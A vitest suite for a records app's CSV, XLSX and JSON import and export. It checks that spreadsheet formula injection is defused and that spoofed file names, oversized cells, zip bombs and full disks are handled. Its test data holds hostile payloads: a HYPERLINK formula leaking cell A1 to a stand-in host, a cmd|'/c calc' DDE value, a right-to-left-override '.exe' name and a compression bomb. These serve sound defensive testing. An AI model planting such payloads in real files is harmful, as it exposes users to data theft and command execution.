import type { AppView } from '@caseloom/contract/apps/apps'
import type { JobView } from '@caseloom/contract/records/jobs'
import type { Actor } from '@caseloom/contract/kernel/permissions'
import { createJobsFixture, type JobsFixture } from './jobs.fixture.ts'
import { canMountDisk, withSmallDisk } from '@caseloom/testkit/small-disk'
import { randomBytes } from 'node:crypto'
import { readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { Readable } from 'node:stream'
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { ZipFile } from 'yazl'
import { isFailure } from '../../../platform/errors.ts'
import { createLocalFileStore } from '../../../platform/files/file-store.ts'
import { newId } from '../../../platform/uuid.ts'
import { startExport, startImport } from './start-job.ts'
import { createJobFiles } from '../job-state/job-files.ts'
import { previewImport } from './preview-import.ts'
import { undoJob } from './watch-jobs.ts'

const MB = 1024 ** 2
/** Each begins a formula in some spreadsheet. */
const STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＠']
const FORMULA = 'HYPERLINK("http://x.test?"&A1,"press")'

let house: JobsFixture
let alice: Actor
let bob: Actor
beforeAll(async () => {
  house = await createJobsFixture()
  alice = house.aUser()
  bob = house.aUser()
  house.deps.people = async () => ({
    users: [
      // Without an address it is the name that files say.
      { id: alice.id ?? '', name: `=${FORMULA}`, email: '' },
      { id: bob.id ?? '', name: '@Bob', email: '' },
    ],
    groups: [],
  })
})
afterAll(() => house.close())

type Format = 'csv' | 'xlsx' | 'json'
async function exported(app: AppView, format: Format, header: 'keys' | 'labels' = 'keys'): Promise<JobView> {
  const order = { appId: app.id, format, records: {}, header } as const
  return house.finish(alice, await startExport(house.deps, house.scope, alice, order))
}
const looked = (app: AppView, fileId: string) =>
  previewImport(house.deps, house.scope, alice, { appId: app.id, fileId: fileId as never })
async function load(app: AppView, fileId: string): Promise<JobView> {
  const { columns } = await looked(app, fileId)
  return house.finish(alice, await begun(app, fileId, columns))
}
const begun = (app: AppView, fileId: string, columns: { column: string; field: string | null }[]) =>
  startImport(house.deps, house.scope, alice, {
    appId: app.id,
    fileId: fileId as never,
    columns: columns.map(({ column, field }) => ({ column, field })),
    existing: 'update',
    missing: 'create',
    dryRun: false,
  })
async function fieldsOf(app: AppView) {
  const { items } = await house.records.searchRecords(house.scope, alice, { appId: app.id, limit: 1000 })
  return items
    .map(({ fields }) => fields)
    .toSorted((one, other) => (String(one['title']) < String(other['title']) ? -1 : 1))
}
const create = async (app: AppView, rows: readonly Record<string, unknown>[]) => {
  const commands = rows.map((values) => ({ kind: 'create' as const, values: values as never }))
  const made = await house.records.changeMany(house.scope, alice, { appId: app.id, commands })
  expect(made.filter((one) => !('fields' in one))).toEqual([])
}
const failed = async (work: Promise<unknown>) => {
  const error = await work.catch((thrown: unknown) => thrown)
  if (!isFailure(error, 'import.unreadable') && !isFailure(error, 'file.storage_full')) throw error
  return `${error.code} ${error.details.detail ?? ''}`
}
/** A file that is made while it is read. */
function upload(name: string, size: number, chunks: () => Iterable<Buffer>): string {
  const id = newId()
  const { openUpload } = house.deps
  house.deps.openUpload = async (scope, actor, fileId) =>
    fileId === id
      ? { name, size, open: async () => Readable.from(chunks()) }
      : openUpload(scope, actor, fileId)
  onTestFinished(() => {
    house.deps.openUpload = openUpload
  })
  return id
}
async function zipped(files: [string, string | Buffer][], compress = true): Promise<Buffer> {
  const zip = new ZipFile()
  for (const [path, content] of files) zip.addBuffer(Buffer.from(content), path, { compress })
  zip.end()
  return Buffer.concat(await Array.fromAsync(zip.outputStream as unknown as AsyncIterable<Buffer>))
}

const WIDE = { type: 'text', maxLength: 1_000_000 }

describe('what a spreadsheet would calculate', () => {
  const labelled = (at: number) => `${STARTS[at]?.trim() ?? ''}${FORMULA} ${at}`
  const fields = [
    { key: 'title', label: `=${FORMULA} title`, type: 'text', required: true },
    ...STARTS.map((_start, at) => ({ key: `field_${at}`, label: labelled(at), type: 'text' })),
    {
      key: 'choice',
      label: '@choice',
      type: 'selection',
      multiple: true,
      options: STARTS.map((start, at) => ({ key: `o${at}`, label: `${start.trim()}SUM(1)${at}` })),
    },
    { key: 'words', label: '-words', type: 'list' },
    { key: 'owner', label: '+owner', type: 'user' },
    { key: 'watchers', label: '=watchers', type: 'user', multiple: true },
  ]
  const rows = () =>
    STARTS.map((start, at) => ({
      title: `${start}${FORMULA}${at}`,
      ...Object.fromEntries(STARTS.map((_one, n) => [`field_${n}`, `${"'".repeat(n % 3)}${start}1+${n}`])),
      choice: [`o${at}`],
      words: [`${start.trim()}cmd|'/c calc'!A1`, '@x'],
      owner: alice.id,
      watchers: [bob.id, alice.id],
    }))

  it.each(['csv', 'xlsx'] as const)(
    'is defused in headers, values and names of %s, and comes back as it was',
    async (format) => {
      const [from, to] = [await house.anApp({ fields }), await house.anApp({ fields })]
      await create(from, rows())
      const job = await exported(from, format, 'labels')
      expect(job).toMatchObject({ state: 'succeeded', done: STARTS.length, faults: [] })
      const bytes = await house.fileOf(job)
      const table = await openTableOf(format, bytes)
      for (const cells of table) for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r＝＠]|^-\D/)
      const file = house.upload(job.file?.name ?? '', bytes)
      const { columns } = await looked(to, file)
      expect(columns.map(({ field }) => field)).toEqual(expect.arrayContaining(fields.map(({ key }) => key)))
      const done = await load(to, file)
      expect(done).toMatchObject({ state: 'succeeded', counts: { created: STARTS.length, failed: 0 } })
      expect(await fieldsOf(to)).toEqual(await fieldsOf(from))
    },
  )

  it('is neutralized in rejected rows too, and restored when the corrected rows are imported', async () => {
    const app = await house.anApp({
      fields: [
        { key: 'title', label: 'Title', type: 'text', required: true },
        { key: 'note', label: '=note', type: 'text' },
      ],
    })
    const lines = STARTS.map((start, at) => `"",'${start === '\r' || start === '\t' ? '=' : start}1+${at}`)
    const done = await load(app, house.upload('x.csv', `Title,'=note\r\n${lines.join('\r\n')}\r\n`))
    expect(done).toMatchObject({ counts: { created: 0, failed: STARTS.length } })
    const errors = (await house.fileOf(done)).toString()
    for (const cells of await openTableOf('csv', Buffer.from(errors)))
      for (const cell of cells) expect(cell).not.toMatch(/^[=+@\t\r＝＠]|^-\D/)
    const corrected = errors.replaceAll(/\r\n,/g, '\r\nMended,')
    const rest = await load(app, house.upload('mended.csv', corrected))
    expect(rest).toMatchObject({ counts: { created: STARTS.length, failed: 0 } })
    expect((await fieldsOf(app)).map((values) => values['note'])).toEqual(
      expect.arrayContaining(['=1+0', '+1+1', '-1+2', '@1+3']),
    )
  })

  /** The cells as they stand in the file, before we take our own apostrophes away. */
  async function openTableOf(format: 'csv' | 'xlsx', bytes: Buffer): Promise<string[][]> {
    if (format === 'xlsx') {
      const { xlsxTable } = await import('../tables/xlsx-table.ts')
      const table = await xlsxTable({ name: 'x', size: 0, open: async () => Readable.from([bytes]) })
      const raw = await Array.fromAsync(table.rows(table.columns))
      await table.close()
      return raw.map(({ cells }) => cells.map(String))
    }
    const { parse } = await import('csv-parse/sync')
    return parse(bytes, { bom: true, relax_column_count: true })
  }
})

describe('names in every script and direction', () => {
  it.each([
    ['from the right', 'תיק/بلاغ'],
    ['turned around', 'Case\u202egpj.exe'],
    ['without width', 'Ca\u200bse\ufeff'],
    ['with marks on it', 'Z̸̢a̴lgo e\u0301'],
    ['of pictures', '👩‍👩‍👧 🚨'],
  ])(
    '%s: the file of an export has a name that every system takes, and its values come back',
    async (_w, name) => {
      const fields = [
        { key: 'title', label: name, type: 'text', required: true },
        { key: 'list', label: `${name} 2`, type: 'list' },
      ]
      const [from, to] = [await house.anApp({ fields, name }), await house.anApp({ fields, name })]
      await create(from, [{ title: name, list: [name, 'x'] }])
      for (const format of ['csv', 'xlsx', 'json'] as const) {
        const job = await exported(from, format, 'labels')
        expect(job.file?.name).toMatch(/^[^/\\\u202e\u200b\ufeff]+ \d{4}-\d\d-\d\d\.(csv|xlsx|json)$/u)
        const done = await load(to, house.upload(`x.${format}`, await house.fileOf(job)))
        expect(done, format).toMatchObject({ counts: { created: 1, failed: 0 } })
      }
      const [one] = await fieldsOf(from)
      expect(await fieldsOf(to)).toEqual([one, one, one])
    },
  )
})

describe('a file that is larger than any', () => {
  const hundred = (head: string, tail: string) =>
    upload('big.txt', 100 * MB, function* () {
      yield Buffer.from(head)
      const chunk = Buffer.alloc(MB, 'x')
      for (let at = 0; at < 100; at += 1) yield chunk
      yield Buffer.from(tail)
    })

  it.each([
    ['CSV', 'title\n"', '"\n'],
    ['JSON', '[{"title":"', '"}]'],
  ])(
    'a text of 100 MB in one cell of %s is refused before it fills the memory',
    async (_what, head, tail) => {
      const app = await house.anApp()
      const before = process.memoryUsage().rss
      expect(await failed(looked(app, hundred(head, tail)))).toContain('8 million characters')
      expect(process.memoryUsage().rss - before).toBeLessThan(160 * MB)
    },
  )

  it('a text longer than its field refuses the row alone', async () => {
    const app = await house.anApp()
    const done = await load(app, house.upload('x.csv', `title\n${'x'.repeat(1_000_000)}\nshort\n`))
    expect(done).toMatchObject({ state: 'succeeded', counts: { created: 1, failed: 1 } })
    expect(done.faults[0]?.issues[0]?.code).toBe('too_long')
  })

  it('an archive that unpacks to far more than it is, or lies in another, is refused', async () => {
    const app = await house.anApp()
    const row = ['records.csv', 'title\nOne\n'] as [string, string]
    const bomb = await zipped([row, ['files/' + 'a'.repeat(64) + '/x', Buffer.alloc(40 * MB)]])
    expect(bomb.length).toBeLessThan(MB)
    expect(await failed(looked(app, house.upload('x.zip', bomb)))).toContain('exceeds the limit')
    const table = await zipped([['records.csv', `title\n${' '.repeat(40 * MB)}\n`]])
    expect(await failed(looked(app, house.upload('x.zip', table)))).toContain('exceeds the limit')
    const inner = await zipped([['records.xlsx', await zipped([row])]])
    expect(await failed(looked(app, house.upload('x.zip', inner)))).toMatch(/archive|workbook/)
    expect(await fieldsOf(app)).toEqual([])
  })

  it('500 fields and 10,000 options go out and come back', async () => {
    const options = Array.from({ length: 10_000 }, (_one, at) => ({ key: `o${at}`, label: `Option ${at}` }))
    const fields = [
      { key: 'title', label: 'Title', type: 'text', required: true },
      { key: 'choice', label: 'Choice', type: 'selection', options },
      ...Array.from({ length: 498 }, (_one, at) => ({ key: `f${at}`, label: `Field ${at}`, type: 'text' })),
    ]
    const [from, to] = [await house.anApp({ fields }), await house.anApp({ fields })]
    const filled = (count: number) =>
      Object.fromEntries(Array.from({ length: count }, (_one, at) => [`f${at * 2}`, `value ${at}`]))
    await create(from, [
      { title: 'One', choice: 'o9999', ...filled(200) },
      { title: 'Two', choice: 'o5000', ...filled(200) },
    ])
    // A row of PostgreSQL has room for 8 kB besides its long values: a larger one is rejected with that reason.
    const full = {
      title: 'Full',
      ...Object.fromEntries(fields.slice(2).map(({ key }) => [key, 'x'.repeat(20)])),
    }
    const refused = house.records.createRecord(house.scope, alice, { appId: from.id, fields: full })
    await expect(refused).rejects.toMatchObject({
      code: 'request.invalid',
      details: { issues: [{ code: 'too_big' }] },
    })
    const job = await exported(from, 'csv', 'labels')
    const text = (await house.fileOf(job)).toString().replace('o5000', 'option 5000')
    const done = await load(to, house.upload('x.csv', text))
    expect(done).toMatchObject({ counts: { created: 2, failed: 0 } })
    expect(await fieldsOf(to)).toEqual(await fieldsOf(from))
    expect((await fieldsOf(to))[0]).toMatchObject({ choice: 'o9999', f398: 'value 199' })
  }, 60_000)
})

/** Skipped where the process may not mount a disk: these tests need a real one. */
describe.runIf(canMountDisk())('a disk of 1 MB that is full', () => {
  const path = join(tmpdir(), `caseloom-hostile-${process.pid}`)
  afterAll(() => rmSync(path, { recursive: true, force: true }))
  const full = (name: string, use: () => Promise<void>) => it(name, () => withSmallDisk(path, '1m', use))
  const noise = (size: number) => randomBytes(size).toString('base64').slice(0, size)
  const fields = [
    { key: 'title', label: 'Title', type: 'text', required: true },
    { key: 'text', label: 'Text', ...WIDE },
  ]

  full('takes no half of an upload, and the next that fits', async () => {
    const files = createLocalFileStore(path)
    const id = newId()
    const send = (size: number) => files.receive(id, Readable.from([randomBytes(size)]), 10 * MB)
    await expect(send(2 * MB)).rejects.toMatchObject({ code: 'file.storage_full', status: 507 })
    expect(readdirSync(`${path}/${id}`)).toEqual([])
    const { sha256 } = await send(MB / 2)
    expect(readdirSync(`${path}/${id}`)).toEqual([sha256])
    await files.deleteTenant(id)
  })

  full('ends an export with a reason, and keeps nothing of it', async () => {
    const app = await house.anApp({ fields })
    await create(
      app,
      Array.from({ length: 5 }, (_one, at) => ({ title: `T ${at}`, text: noise(300_000) })),
    )
    const { files } = house.deps
    house.deps.files = createJobFiles(path)
    for (const format of ['csv', 'json'] as const) {
      expect(await exported(app, format)).toMatchObject({
        state: 'failed',
        error: 'The disk is full',
        file: null,
      })
      expect(readdirSync(`${path}/${house.scope.tenantId}`)).toEqual([])
    }
    house.deps.files = files
    expect(await exported(app, 'csv')).toMatchObject({ state: 'succeeded', done: 5 })
  })

  full('ends an import that has to unpack with a reason, before anything is written', async () => {
    const app = await house.anApp({ fields })
    const rows = `Title,Text\nOne,${noise(300_000)}\n`
    const packed = house.upload(
      'x.zip',
      await zipped(
        [
          ['records.csv', rows],
          ['pad', randomBytes(2 * MB)],
        ],
        false,
      ),
    )
    const columns = [{ column: 'Title', field: 'title' }]
    const before = process.env['TMPDIR']
    const waiting = await begun(app, packed, columns)
    process.env['TMPDIR'] = path
    try {
      expect(await failed(looked(app, packed))).toBe('file.storage_full The disk is full')
      expect(await house.finish(alice, waiting)).toMatchObject({ state: 'failed', error: 'The disk is full' })
    } finally {
      if (before === undefined) delete process.env['TMPDIR']
      else process.env['TMPDIR'] = before
    }
    expect(readdirSync(path).filter((name) => name.startsWith('caseloom-import-'))).toEqual([])
    expect(await fieldsOf(app)).toEqual([])
    expect(await load(app, packed)).toMatchObject({ state: 'succeeded', counts: { created: 1 } })
  })

  full('ends an import whose refused rows find no room, and what it wrote can be taken back', async () => {
    const app = await house.anApp({ fields })
    const lines = Array.from({ length: 5 }, (_one, at) => `${at === 0 ? 'Good' : ''},${noise(300_000)}`)
    const file = house.upload('x.csv', `Title,Text\n${lines.join('\n')}\n`)
    const { files } = house.deps
    house.deps.files = createJobFiles(path)
    const done = await load(app, file)
    house.deps.files = files
    expect(done).toMatchObject({
      state: 'failed',
      error: 'The disk is full',
      counts: { created: 1, failed: 4 },
    })
    expect(done.can.undo).toBe(true)
    await house.finish(alice, await undoJob(house.scope, alice, done.id))
    expect(await fieldsOf(app)).toEqual([])
  })
})

describe('a database whose disk is full', () => {
  it('pauses an import between two batches, and resumes it there once space is available', async () => {
    const app = await house.anApp()
    const rows = Array.from({ length: 2500 }, (_one, at) => `row ${at}`)
    const file = house.upload('x.csv', `title\n${rows.join('\n')}\n`)
    const compiled = await house.scope.read((tx) => house.apps.compiled(tx, app.id, true))
    const { table } = compiled ?? { table: '' }
    const full = `${table.split('.')[0]}.full_disk`
    await house.scope.define('fill the disk', async (tx) => {
      // PostgreSQL's own code for a disk without room, raised where it would be.
      await tx.query(`create function ${full}() returns trigger language plpgsql as $$ begin
        if new.seq > 1500 then raise exception 'no room' using errcode = '53100'; end if; return new; end $$`)
      await tx.query(
        `create trigger full_disk before insert on ${table} for each row execute function ${full}()`,
      )
    })
    const waiting = await load(app, file)
    expect(waiting).toMatchObject({ state: 'running', error: null })
    expect(await countOf(app)).toBe(waiting.counts.created)
    // More often than a job that breaks is tried.
    for (let look = 0; look < 10; look += 1) {
      await nowDue(waiting)
      expect(await house.finish(alice, waiting)).toMatchObject({ state: 'running', error: null })
    }
    await house.scope.define('fill the disk', (tx) => tx.query(`drop trigger full_disk on ${table}`))
    await nowDue(waiting)
    expect(await house.finish(alice, waiting)).toMatchObject({
      state: 'succeeded',
      counts: { created: 2500, failed: 0 },
    })
    expect(await countOf(app)).toBe(2500)
  })
})

async function countOf(app: { id: string }): Promise<number | undefined> {
  const query = { appId: app.id, count: 'exact', limit: 1 } as const
  return (await house.records.searchRecords(house.scope, alice, query)).total?.value
}

/** Expires the waiting job's pause. */
async function nowDue({ id }: { id: string }): Promise<void> {
  const due = 'update caseloom.record_job set turn_at = clock_timestamp() where id = $1'
  await house.installation.database.system.tx((tx) => tx.query(due, [id]))
}
